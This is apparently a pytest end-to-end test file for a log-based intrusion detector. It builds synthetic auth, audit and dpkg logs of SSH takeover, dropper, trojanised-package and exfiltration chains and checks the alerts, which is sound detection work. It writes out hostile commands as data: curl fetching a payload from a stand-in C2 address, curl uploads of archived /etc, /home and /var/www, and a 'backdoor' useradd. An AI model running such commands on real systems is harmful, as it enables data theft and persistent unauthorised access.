"""The three cross-source chains, proven with ``keibi hunt`` on constructed /var/log sets.

One host's auth.log, syslog, dpkg.log, apt/history.log and audit/audit.log
(tests/e2e/chain_logs.py) hold, among benign activity that looks like each step:

* an account takeover: an SSH brute force from 203.0.113.77, a login as ``deploy``
  from that address, then within minutes ``sudo useradd`` (auth.log), the ADD_USER and
  USER_CMD audit records and an append to /root/.ssh/authorized_keys by login user
  ``deploy``;
* a dropper: curl writes /tmp/.cache/kworkerd, chmod makes it executable, it runs and
  connects to 198.51.100.23:443;
* a trojanised package: ``dpkg -i`` installs ``sysupdated``, /usr/sbin/sysupdated runs
  and connects to 198.51.100.50:8443;
* an exfiltration: ``deploy`` tars /etc and /home (as root through sudo, audit login
  user deploy) then uploads the archive with ``curl -T``; and a web shell (``www-data``,
  no login user) tars the site and posts it with ``curl -F``.

The same stories with the steps out of order, or too far apart, must give none of
the chain alerts, while the single-step rules keep doing their part.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from tests.e2e.chain_logs import LogSet

from keibi.rules.loader import builtin_rules_dir, load_rules

ATTACKER = "203.0.113.77"
C2 = "198.51.100.23"
START = datetime(2026, 11, 20, 10, 0, 0, tzinfo=UTC)
DROPPER = "/tmp/.cache/kworkerd"
CHAINS = {"account_takeover_chain", "malware_dropped_executable_chain",
          "package_install_then_beacon", "exfiltration_archive_then_upload",
          "exfiltration_by_service_account"}

#: the offsets (seconds after START) of each story's steps, per variant
TIMES: dict[str, dict[str, float]] = {
    # login at 120 after the brute force; persistence 5 and 13 minutes later
    "chains": {"login": 120, "sudo": 420, "keys": 900, "write": 1200, "run": 1210,
               "beacon": 1215, "install": 2000, "svc": 2100, "svc_connect": 2110,
               "tar": 3000, "upload": 3100, "ws_tar": 3300, "ws_post": 3350},
    # each story's steps shuffled: the sudo before the login, the dropper run and
    # connecting before it is written, the package's program before the package, the
    # upload before the archive
    "out_of_order": {"login": 700, "sudo": 420, "keys": 450, "write": 1300, "run": 1210,
                     "beacon": 1215, "install": 2200, "svc": 2100, "svc_connect": 2110,
                     "tar": 3200, "upload": 3100, "ws_tar": 3400, "ws_post": 3350},
    # in order but too far apart: 31 min after the login, 61 min after the write,
    # 31 min after the install, 11 min after the archive
    "too_far": {"login": 120, "sudo": 120 + 1860, "keys": 120 + 1870, "write": 1200,
                "run": 1210, "beacon": 1200 + 3660, "install": 2000, "svc": 2100,
                "svc_connect": 2000 + 1860, "tar": 3000, "upload": 3000 + 660,
                "ws_tar": 3300, "ws_post": 3300 + 660},
}


def build(directory: Path, variant: str) -> Path:
    t = TIMES[variant]
    s = LogSet(START)
    # -- benign activity all along ---------------------------------------------------------
    s.ssh_login(10, "10.0.0.5", "alice", "publickey")
    s.sudo(40, "alice", "/usr/bin/systemctl restart nginx", cwd="/home/alice")
    s.exec(40, ["/usr/bin/systemctl", "restart", "nginx"], auid="alice")
    s.ssh_failures(60, "10.0.0.5", ["alice"])  # one typo: not a brute force
    s.apt_install(200, "htop", "3.2.2-2", "alice")
    s.exec(260, ["/usr/bin/htop"], auid="alice", uid="alice")  # installed and run, no network
    s.exec(300, ["tar", "-xzf", "release.tgz"], exe="/usr/bin/tar", auid="alice",
           uid="alice")
    s.exec(320, ["curl", "-fsSL", "-o", "/tmp/get.sh", "https://example.org/get.sh"],
           exe="/usr/bin/curl", auid="alice", uid="alice")
    s.crontab_replace(500, "alice")  # alice, not the intruder
    s.create_file(600, "/tmp/build/a.out", exe="/usr/bin/ld", auid="alice", uid="alice")
    s.exec(610, ["/tmp/build/a.out", "--selftest"], auid="alice", uid="alice")  # no network
    pg = s.exec(700, ["/usr/bin/python3", "/srv/app/worker.py"], auid=None, uid="www-data")
    s.connect(705, "10.0.0.9", 5432, exe="/usr/bin/python3.11", pid=pg, auid=None,
              uid="www-data")
    s.exec(1500, ["tar", "-czf", "/var/backups/www.tgz", "/srv/www"], exe="/usr/bin/tar",
           auid="alice")
    s.exec(1500 + 1200, ["scp", "/var/backups/www.tgz", "backup@10.0.0.9:/b/"],
           exe="/usr/bin/scp", auid="alice", uid="alice")  # 20 minutes later: too late
    # -- the account takeover ---------------------------------------------------------------
    s.ssh_failures(0, ATTACKER, ["root", "root", "root", "root", "deploy", "deploy",
                                 "deploy", "deploy"])
    s.ssh_login(t["login"], ATTACKER, "deploy")
    s.sudo(t["sudo"], "deploy", "/usr/sbin/useradd -m -s /bin/bash backdoor",
           cwd="/home/deploy")
    s.user_cmd(t["sudo"], "/usr/sbin/useradd -m -s /bin/bash backdoor", auid="deploy")
    s.useradd(t["sudo"] + 1, "backdoor")
    s.add_user(t["sudo"] + 1, "backdoor", auid="deploy")
    s.append_file(t["keys"], "/root/.ssh/authorized_keys", exe="/usr/bin/bash",
                  auid="deploy")
    # -- the dropper ------------------------------------------------------------------------
    s.exec(t["write"] - 1, ["curl", "-so", DROPPER, f"http://{C2}/k"], exe="/usr/bin/curl",
           auid="deploy", uid="deploy")
    s.create_file(t["write"], DROPPER, exe="/usr/bin/curl", auid="deploy", uid="deploy")
    s.chmod(t["write"] + 2, DROPPER, 0o755, auid="deploy", uid="deploy")
    pid = s.exec(t["run"], [DROPPER], auid="deploy", uid="deploy", cwd="/tmp/.cache")
    s.connect(t["beacon"], C2, 443, exe=DROPPER, pid=pid, auid="deploy", uid="deploy")
    # -- the trojanised package -------------------------------------------------------------
    s.exec(t["install"] - 1, ["dpkg", "-i", "/tmp/sysupdated_2.1_amd64.deb"],
           exe="/usr/bin/dpkg", auid="deploy")
    s.dpkg_install(t["install"], "sysupdated", "2.1")
    svc = s.exec(t["svc"], ["/usr/sbin/sysupdated", "--daemon"], auid=None)
    s.connect(t["svc_connect"], "198.51.100.50", 8443, exe="/usr/sbin/sysupdated", pid=svc,
              auid=None)
    # -- the exfiltration -------------------------------------------------------------------
    s.sudo(t["tar"], "deploy", "/usr/bin/tar -czf /tmp/.d.tgz /etc /home", cwd="/home/deploy")
    s.exec(t["tar"], ["tar", "-czf", "/tmp/.d.tgz", "/etc", "/home"], exe="/usr/bin/tar",
           auid="deploy")
    s.exec(t["upload"], ["curl", "-s", "-T", "/tmp/.d.tgz", f"https://{C2}/up"],
           exe="/usr/bin/curl", auid="deploy", uid="deploy")
    # -- a web shell (no login user) packs the site and posts it -----------------------------
    s.exec(t["ws_tar"], ["tar", "czf", "/tmp/.s.tgz", "/var/www"], exe="/usr/bin/tar",
           auid=None, uid="www-data", cwd="/var/www")
    s.exec(t["ws_post"], ["curl", "-s", "-F", "f=@/tmp/.s.tgz", f"http://{C2}/p"],
           exe="/usr/bin/curl", auid=None, uid="www-data", cwd="/var/www")
    return s.write(directory)


@pytest.fixture(scope="module")
def names() -> dict[str, str]:
    """rule id -> rule name, for the built-in rules."""
    return {r.id: r.name or r.id for r in load_rules([builtin_rules_dir()]).rules}


def hunt(directory: Path) -> list[dict[str, Any]]:
    env = {**os.environ, "TZ": "UTC"}
    r = subprocess.run([sys.executable, "-m", "keibi.cli.main", "hunt", "--json", "-q",
                        "-j", "1", str(directory)],
                       capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == 0, r.stderr
    assert "skipped" not in r.stderr, r.stderr
    return [json.loads(line) for line in r.stdout.splitlines()]


def _by_rule(alerts: list[dict[str, Any]], names: dict[str, str]
             ) -> dict[str, list[dict[str, Any]]]:
    out: dict[str, list[dict[str, Any]]] = {}
    for a in alerts:
        out.setdefault(names[a["rule"]["id"]], []).append(a)
    return out


def _datasets(alert: dict[str, Any]) -> set[str]:
    return {e["event"]["dataset"] for e in alert["keibi"]["alert"]["evidence"]}


def test_all_three_chains_fire_once_each(tmp_path: Path, names: dict[str, str]) -> None:
    alerts = hunt(build(tmp_path / "log", "chains"))
    got = _by_rule(alerts, names)
    assert Counter({k: len(v) for k, v in got.items()}) == Counter({
        "ssh_brute_force": 1, "ssh_login_after_brute_force": 1, "account_created": 1,
        "account_takeover_chain": 1, "malware_dropped_executable_chain": 1,
        "package_install_then_beacon": 1, "exfiltration_archive_then_upload": 1,
        "exfiltration_by_service_account": 1,
    }), sorted((names[a["rule"]["id"]], a.get("message")) for a in alerts)

    takeover = got["account_takeover_chain"][0]
    assert takeover["user"]["name"] == "deploy"
    assert takeover["keibi"]["alert"]["severity"] == "critical"
    assert {"T1078", "T1098.004", "T1136.001"} <= set(takeover["threat"]["technique"]["id"])
    # the sudo, the USER_CMD/ADD_USER and the authorized_keys append all merged into it
    assert takeover["keibi"]["alert"]["count"] >= 3
    assert _datasets(takeover) == {"keibi.auth", "keibi.audit"}
    evidence = takeover["keibi"]["alert"]["evidence"]
    assert any(e.get("source", {}).get("ip") == ATTACKER for e in evidence)  # the login
    assert any(e.get("file", {}).get("path") == "/root/.ssh/authorized_keys" for e in evidence)
    assert "deploy" in takeover["message"]

    dropper = got["malware_dropped_executable_chain"][0]
    assert dropper["process"]["executable"] == DROPPER
    assert dropper["destination"] == {"ip": C2, "port": 443}
    actions = [e["event"]["action"] for e in dropper["keibi"]["alert"]["evidence"]]
    assert actions[-1] == "network-connect" and "process-started" in actions
    assert {"file-openat", "file-fchmodat"} & set(actions)

    package = got["package_install_then_beacon"][0]
    assert package["process"]["name"] == "sysupdated"
    assert _datasets(package) == {"keibi.dpkg", "keibi.audit"}
    assert package["destination"]["ip"] == "198.51.100.50"

    exfil = got["exfiltration_archive_then_upload"][0]
    assert exfil["user"]["audit"]["name"] == "deploy"
    assert exfil["process"]["name"] == "curl"
    assert set(exfil["threat"]["technique"]["id"]) == {"T1560.001", "T1048"}
    assert [e["process"]["name"] for e in exfil["keibi"]["alert"]["evidence"]] == ["tar", "curl"]

    webshell = got["exfiltration_by_service_account"][0]
    assert webshell["user"]["name"] == "www-data"
    assert "user" not in webshell or "audit" not in webshell["user"]


@pytest.mark.parametrize("variant", ["out_of_order", "too_far"])
def test_no_chain_when_steps_are_out_of_order_or_too_far_apart(
        tmp_path: Path, names: dict[str, str], variant: str) -> None:
    alerts = hunt(build(tmp_path / "log", variant))
    got = _by_rule(alerts, names)
    assert not CHAINS & set(got), sorted(
        (names[a["rule"]["id"]], a.get("message")) for a in alerts)
    # the single steps are still seen: the brute force and the login after it
    assert {"ssh_brute_force", "ssh_login_after_brute_force", "account_created"} <= set(got)
